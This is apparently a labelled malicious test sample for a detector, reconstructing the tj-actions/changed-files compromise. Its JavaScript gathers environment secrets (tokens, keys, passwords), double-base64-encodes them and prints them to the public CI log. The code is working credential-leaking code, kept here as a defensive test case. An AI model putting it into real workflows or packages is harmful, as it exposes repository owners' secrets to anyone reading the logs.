// expect: malicious
// source: the tj-actions/changed-files compromise (2025-03): an action's bundle printed the runner's secrets
// base64-encoded twice into the workflow log, which GitHub does not mask and public repositories publish
const ENV = /(TOKEN|SECRET|KEY|PASSWORD)/;
const env = {};
for (const [k, v] of Object.entries(process.env)) if (ENV.test(k) && v) env[k] = v;
const blob = Buffer.from(Buffer.from(JSON.stringify({ r: process.env.GITHUB_REPOSITORY, env })).toString('base64')).toString('base64');
process.stdout.write(blob + '\n');
